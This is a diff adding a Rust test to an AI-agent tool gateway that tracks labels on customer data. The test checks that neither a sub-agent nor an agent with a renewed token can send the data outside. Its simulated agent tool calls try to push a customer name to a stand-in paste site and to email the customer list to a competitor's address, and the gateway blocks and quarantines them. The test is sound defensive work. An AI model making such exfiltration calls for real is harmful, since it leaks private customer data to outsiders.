@@ -712,6 +712,70 @@ async fn a_recipient_in_an_unbound_argument_is_checked_too() {
     s.stop().await;
 }
 
+/// The label is the user's and the agent's, not the token's: after the report
+/// agent has read the customers, neither its sub-agent nor the agent itself
+/// with a renewed token (a new exchange, as every 15 minutes) may carry them
+/// outside. Keyed by the token, both started clean and the mail went out.
+#[tokio::test]
+async fn a_new_token_or_a_sub_agent_does_not_shed_the_label() {
+    let sent = Arc::new(Mutex::new(Vec::new()));
+    let crm = serve_upstream(Crm::new()).await;
+    let mail = serve_upstream(Mailer::new(Arc::clone(&sent))).await;
+    let web = serve_upstream(Web::new()).await;
+    let (s, _dir) = gateway(
+        &[("crm", crm), ("mail", mail), ("web", web)],
+        Duration::from_secs(5),
+    )
+    .await;
+    let first = report_agent(&s).await;
+    first
+        .call_tool(call("crm.query", json!({"table": "customers"})))
+        .await
+        .unwrap();
+    first.cancel().await.unwrap();
+
+    // The sub-agent it hands the list to may not fetch a page outside with it.
+    let summariser =
+        client_with(&s, "/mcp", s.mint("alice", &["report-agent", "summariser"])).await;
+    let e = rpc_error(
+        summariser
+            .call_tool(call(
+                "web.fetch",
+                json!({"url": "https://paste.rival.example/?q=Jane+Roe"}),
+            ))
+            .await
+            .unwrap_err(),
+    );
+    assert_eq!(e.code, zt4ai_mcp::DENIED, "{}", e.message);
+    // Refused for the label (the summariser has no grant to fetch either, but
+    // the guard answers first), and the summariser is quarantined for trying.
+    assert_eq!(e.data.unwrap()["policies"][0], "zt4ai.flow.send");
+    summariser.cancel().await.unwrap();
+
+    // A renewed token may send it internally, but not to the competitor.
+    let renewed = report_agent(&s).await;
+    renewed
+        .call_tool(call(
+            "mail.send_email",
+            json!({"to": "board@acme.example", "body": "the list"}),
+        ))
+        .await
+        .unwrap();
+    let e = rpc_error(
+        renewed
+            .call_tool(call(
+                "mail.send_email",
+                json!({"to": "ceo@rival.example", "body": "the list"}),
+            ))
+            .await
+            .unwrap_err(),
+    );
+    assert_eq!(e.code, zt4ai_mcp::DENIED, "{}", e.message);
+    assert_eq!(e.data.unwrap()["policies"][0], "zt4ai.flow.send");
+    assert_eq!(*sent.lock().unwrap(), ["board@acme.example"]);
+    s.stop().await;
+}
+
 /// The agent's `_meta` does not reach the upstream server: nothing inspects
 /// it or weighs it against the destination, so it would carry what the flow
 /// guards stop in the arguments. (With tracing on, the one key sent is
